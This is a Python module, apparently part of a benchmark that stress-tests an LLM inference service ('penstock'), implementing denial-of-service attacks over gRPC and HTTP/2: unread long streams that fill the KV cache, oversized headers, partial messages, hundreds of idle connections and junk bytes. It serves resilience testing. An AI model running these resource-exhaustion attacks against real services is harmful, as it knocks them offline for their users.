"""Attacks below gRPC and HTTP: calls that are never completed or read, silent connections, bad bytes."""

import socket
import struct
import time
from collections.abc import Callable

import penstock.v1 as pb
from hostile_bench import http2
from hostile_bench.attack import PAUSE_S, Attack, allow_many_files, connect
from hostile_bench.live_service import ATTACKER_KEY

_MIB = 1 << 20
_NEW_AT_ONCE = 20
"""New calls or connections before the attacker looks at the others again."""


def stalled_streams(attack: Attack) -> None:
    """Holds 40 long streams with log-probabilities that it never reads; their prompts fill the KV at once."""
    sampling = pb.SamplingParams(max_tokens=16_000, ignore_eos=True)
    start = pb.GenerationStart(text=" x" * 2000, output=pb.OutputOptions(logprobs=20), sampling=sampling)
    body = http2.message(pb.GenerateOneRequest(start=start).SerializeToString())
    _hold_unread(attack, "/penstock.v1.GenerationService/GenerateOne", body, 40)


def unread_answers(attack: Attack) -> None:
    """Holds 60 answers of several MiB that it never reads."""
    request = pb.DetokenizeRequest(token_ids=[258] * 1_000_000)
    body = http2.message(request.SerializeToString())
    _hold_unread(attack, "/penstock.v1.TokenizerService/Detokenize", body, 60)


def heads(attack: Attack) -> None:
    """Sends heads of 15 MiB without ever acknowledging the SETTINGS that forbid them; needs no key."""
    more = [(b"x-a", b"v" * (15 * _MIB))]
    _hold(
        attack,
        40,
        lambda: http2.Connection(attack.grpc, acknowledges=False),
        lambda connection: connection.call("/grpc.health.v1.Health/Watch", http2.message(b""), ends=True, more=more),
    )


def partial_messages(attack: Attack) -> None:
    """Holds 200 health checks whose messages of 8 MiB lack their last byte; needs no key."""
    _hold_partial(attack, "/grpc.health.v1.Health/Check", 8 * _MIB, 200, "")


def partial_messages_with_key(attack: Attack) -> None:
    """Holds 100 requests whose messages of 4 MiB lack their last byte."""
    _hold_partial(attack, "/penstock.v1.GenerationService/Complete", 4 * _MIB, 100, ATTACKER_KEY)


def idle_connections(attack: Attack) -> None:
    """Holds 400 silent connections to the gRPC port."""
    _hold_idle(attack, attack.grpc, 400)


def idle_http(attack: Attack) -> None:
    """Holds 400 silent connections to the HTTP port."""
    _hold_idle(attack, attack.http, 400)


def idle_metrics(attack: Attack) -> None:
    """Holds 64 silent connections to the metrics page."""
    _hold_idle(attack, attack.metrics, 64)


def bad_bytes(attack: Attack) -> None:
    """Sends what is neither HTTP nor gRPC to both ports, on one connection after another."""
    data = b"\x16\x03\x01\xff\xfe GET \0\r\n\r\n" * 8
    while attack.is_on:
        for name, target in (("gRPC", attack.grpc), ("HTTP", attack.http)):
            try:
                with connect(target) as connection:
                    connection.sendall(data)
                    connection.settimeout(0.5)
                    while connection.recv(4096):
                        pass
                    answer = "closed"
            except TimeoutError:
                answer = "left open"
            except ConnectionError:
                answer = "closed"
            except OSError as error:
                answer = type(error).__name__
            attack.count(len(data), f"{answer} ({name})")
        time.sleep(0.002)


# ----------------------------------------------------------------------------------------------------------------------


def _hold_unread(attack: Attack, method: str, body: bytes, number: int) -> None:
    _hold(
        attack,
        number,
        lambda: http2.Connection(attack.grpc, reads=False),
        lambda connection: connection.call(method, body, ends=True, key=ATTACKER_KEY),
    )


def _hold_partial(attack: Attack, method: str, size: int, number: int, key: str) -> None:
    body = b"\0" + struct.pack(">I", size) + bytes(size - 1)
    _hold(
        attack,
        number,
        lambda: http2.Connection(attack.grpc),
        lambda connection: connection.call(method, body, ends=False, key=key),
        per_connection=50,
    )


def _hold(
    attack: Attack,
    number: int,
    open_connection: Callable[[], http2.Connection],
    open_call: Callable[[http2.Connection], None],
    per_connection: int = 100,
) -> None:
    """Keeps a number of calls open until the attack is over; what the service ends is opened again."""
    connections: list[http2.Connection] = []
    while attack.is_on:
        for connection in connections:
            connection.pump(0.002)
            if not connection.is_open:
                attack.answers["connection closed"] += 1
                _add_up(attack, connection)
        connections = [connection for connection in connections if connection.is_open]
        num_missing = number - sum(len(connection.streams) for connection in connections)
        for _ in range(min(num_missing, _NEW_AT_ONCE)):
            free = (each for each in connections if each.takes_calls and len(each.streams) < per_connection)
            if (taken := next(free, None)) is None:
                if any(not each.is_open for each in connections):
                    break  # after a closed connection, the next one is opened in the next round
                try:
                    connections.append(taken := open_connection())
                except OSError as error:
                    attack.count(0, type(error).__name__)
                    break
            open_call(taken)
            attack.num_calls += 1
        time.sleep(PAUSE_S)
    for connection in connections:  # held are those that the service has begun to answer
        attack.answers["held to the end"] += len(connection.answered)
        attack.answers["open at the end"] += len(connection.streams) - len(connection.answered)
        _add_up(attack, connection)
        connection.close()
    attack.answers = +attack.answers  # without zeros


def _add_up(attack: Attack, connection: http2.Connection) -> None:
    attack.num_bytes += connection.num_bytes
    attack.answers += connection.ended


def _hold_idle(attack: Attack, target: str, number: int) -> None:
    """Keeps a number of connections open on which it says nothing; those that are closed are opened again."""
    allow_many_files()
    held: list[socket.socket] = []
    while attack.is_on:
        for connection in list(held):
            if _is_closed(connection):
                connection.close()
                held.remove(connection)
                attack.answers["connection closed"] += 1
        for _ in range(number - len(held)):
            if not attack.is_on:
                break
            try:
                connection = connect(target)
            except OSError as error:
                attack.count(0, type(error).__name__)
                break
            connection.setblocking(False)
            held.append(connection)
            attack.num_calls += 1
        time.sleep(0.05)
    attack.answers["open at the end"] += len(held)
    for connection in held:
        connection.close()


def _is_closed(connection: socket.socket) -> bool:
    """Whether the peer closed it. What came before that (a gRPC server sends its SETTINGS at once) is thrown away."""
    try:
        return connection.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
